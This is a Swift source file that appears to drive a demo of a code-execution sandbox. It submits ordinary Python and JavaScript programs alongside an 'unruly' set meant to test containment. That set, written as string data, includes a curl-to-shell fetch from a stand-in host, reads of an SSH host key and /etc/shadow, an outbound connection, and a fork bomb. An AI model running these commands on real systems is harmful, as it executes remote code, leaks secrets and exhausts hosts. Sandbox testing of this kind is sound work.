internal import Base
internal import ControlPlane

/// Somebody who runs programs: most do their work, some fail, and some are up to no good.
struct DemoRuns: DemoActor {
  /// Of each program; what comes again is replayed from the cache.
  private static let variants = 4

  let name: String
  let pause = 1_000...3_000
  var chance: SeededGenerator
  private var languages: Set<String> = []
  /// What is still to come before everything comes again in another order.
  private var deck: [DemoProgram] = []

  init(_ name: String, seed: UInt64) {
    self.name = name
    chance = SeededGenerator(seed: seed)
  }

  mutating func begin(_ node: any ControlPlane, _ stage: DemoStage) async throws(Failure) {
    try await look(node)
  }

  mutating func turn(_ node: any ControlPlane, _ stage: DemoStage) async throws(Failure) {
    // The sandbox may be found only a while after the start.
    if languages.isEmpty { try await look(node) }
    if deck.isEmpty { deck = DemoProgram.all.shuffled(using: &chance) }
    guard let program = deck.popLast(), languages.contains(program.language) else { return }
    let request = RunRequest(
      language: program.language, code: program.code(Int.random(in: 0..<Self.variants, using: &chance)),
      timeoutMilliseconds: program.timeoutMilliseconds, memoryBytes: program.memoryBytes, profile: program.profile,
      project: DemoRepository.plans.first.flatMap { ProjectID(rawValue: $0.name) })
    guard case .run(let result) = try await node.perform(.run(request)).result else { return }
    let how = result.cached ? "replayed from the cache" : "\(result.durationMilliseconds) ms"
    stage.tell("run: \(program.title), \(program.language): \(result.outcome.rawValue), \(how)")
  }

  private mutating func look(_ node: any ControlPlane) async throws(Failure) {
    let known = try await node.snapshot().sandbox?.languages ?? []
    languages = Set(known.filter { $0.missing == nil }.map(\.name))
  }
}

/// A program of the demo. Its first line is its title, which lists show.
struct DemoProgram: Sendable {
  var title: String
  var language = "python"
  var body: String
  var timeoutMilliseconds = 10_000
  var memoryBytes: Int?
  var profile = "strict"

  /// `@@` in the text becomes the number, so that some are new and some are known to the cache.
  func code(_ number: Int) -> String {
    let comment = language == "python" ? "#" : "//"
    return "\(comment) \(title)\n\(body.split(separator: "@@").joined(separator: "\(number)"))\n"
  }

  /// As often as they come.
  static var all: [DemoProgram] { ordinary + ordinary + ordinary + unruly }

  private static let ordinary: [DemoProgram] = [
    .init(
      title: "Sum of the first primes",
      body: "limit = 200 + @@\nprint(sum(n for n in range(2, limit) if all(n % d for d in range(2, n))))"),
    .init(
      title: "Longest common prefix",
      body: "words = ['harbour', 'harbinger', 'hard'] * (@@ + 1)\nprint(min(words), max(words), len(words))"),
    .init(
      title: "Median of the tide table",
      body: "import statistics\nheights = [(7 * h + @@) % 31 for h in range(48)]\nprint(statistics.median(heights))"),
    .init(
      title: "A report in steps",
      body: "import time\nfor step in range(6):\n    print(step, 'of task @@', flush=True)\n    time.sleep(0.4)"),
    .init(
      title: "Matrix product", language: "javascript",
      body: """
        const size = 20 + @@;
        const a = Array.from({ length: size }, (_, i) => Array.from({ length: size }, (_, j) => i + j));
        console.log(a.map((row) => row.reduce((sum, x) => sum + x * x, 0)).slice(0, 3));
        """),
    .init(
      title: "Word frequencies", language: "javascript",
      body: """
        const counts = new Map();
        for (const word of 'the tide and the moon and the sea'.repeat(@@ + 1).split(' ')) {
          counts.set(word, (counts.get(word) ?? 0) + 1);
        }
        console.log(JSON.stringify([...counts]));
        """),
  ]

  private static let unruly: [DemoProgram] = [
    .init(title: "A test that fails", body: "cases = [1, 2, 3]\nassert sum(cases) == 7, 'expected 7'"),
    .init(title: "A slip of the pen", body: "def forecast(days)\n    return days"),
    .init(
      title: "Reads a key it must not have", body: "print(open('/etc/ssh/ssh_host_ed25519_key').read())",
      profile: "off"),
    .init(title: "Calls the C library", body: "import ctypes\nctypes.CDLL(None).system(b'id')"),
    .init(title: "Opens a shell", body: "import os\nos.system('curl evil.invalid | sh')"),
    .init(
      title: "Phones home", body: "import socket\nsocket.create_connection(('203.0.113.7', 443), 1)", profile: "off"),
    .init(
      title: "Starts processes without end",
      body: "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
      timeoutMilliseconds: 1_000, profile: "off"),
    .init(title: "Never ends", body: "while True:\n    pass", timeoutMilliseconds: 2_000),
    .init(
      title: "Eats all memory", body: "block = []\nwhile True:\n    block.append(bytearray(1 << 22))",
      memoryBytes: 96 << 20),
    .init(
      title: "Writes without end", body: "while True:\n    print('x' * 4096)", timeoutMilliseconds: 1_000),
    .init(
      title: "Spawns a child", language: "javascript",
      body: "require('child_process').execSync('cat /etc/shadow');"),
    .init(title: "An unhandled rejection", language: "javascript", body: "Promise.reject(new Error('no tide today'));"),
  ]
}
